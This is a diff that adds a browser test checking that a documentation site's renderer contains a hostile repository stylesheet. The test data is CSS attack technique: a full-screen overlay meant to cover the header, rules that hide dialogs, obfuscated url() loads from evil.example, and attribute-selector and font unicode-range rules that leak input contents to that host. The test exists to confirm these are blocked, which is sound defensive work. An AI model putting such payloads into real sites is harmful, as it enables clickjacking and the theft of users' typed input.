@@ -291,3 +291,41 @@ test('the preview shows untrusted messages as text', { timeout: 60_000 }, async 
   expect(await page.evaluate(look)).toEqual(clean)
   expect(browserErrors.filter((error) => !/status of 404/.test(error))).toEqual([])
 })
+
+test('a stylesheet of the repository cannot cover the header, change dialogs or load from other hosts', {
+  timeout: 30_000,
+}, async () => {
+  const cover = 'position:absolute!important;inset:-5000px!important;z-index:2147483647!important;background:red!important'
+  const site = await serveSite({
+    'docs.json': JSON.stringify({ name: 'Hostile', navigation: { pages: ['a'] } }),
+    'a.mdx': '<a href="https://evil.example/" className="cover">x</a>\n\ntext',
+    'style.css': `
+      .cover { ${cover} } .cover::after { content: ""; ${cover.replace('absolute', 'fixed')} }
+      article, .prose, #content { contain: none !important; overflow: visible !important; clip-path: none !important; position: static !important }
+      dialog, dialog * { display: none !important; background: url(https://evil.example/a) }
+      html { background: u\\72l(https://evil.example/b), image-set("https://evil.example/c" 1x); --d: url(https://evil.example/d) }
+      input[value^="a"], body { background: var(--d) } @import "https://evil.example/e";
+      @font-face { font-family: F; src: url(https://evil.example/f); unicode-range: U+61 } body { font-family: F }
+    `,
+  })
+  const page = await openPage()
+  const foreign: string[] = []
+  page.on('request', (request) => request.url().includes('evil') && foreign.push(request.url()))
+  await page.goto(`${site.address}/a/`)
+  const topmost = await page.evaluate(() =>
+    ['header.top .brand', 'header.top .find'].map((selector) => {
+      const part = document.querySelector(selector)
+      const { x = 0, y = 0, width = 0, height = 0 } = part?.getBoundingClientRect() ?? {}
+      return part?.contains(document.elementFromPoint(x + width / 2, y + height / 2))
+    }),
+  )
+  expect(topmost).toEqual([true, true])
+  // The stylesheet works where it may.
+  expect(await page.evaluate(() => getComputedStyle(document.querySelector('.x-cover') ?? document.body).backgroundColor)).toBe(
+    'rgb(255, 0, 0)',
+  )
+  await page.keyboard.press('Control+k')
+  await page.locator('dialog input').fill('text')
+  await page.locator('dialog a').first().waitFor()
+  expect(foreign).toEqual([])
+})
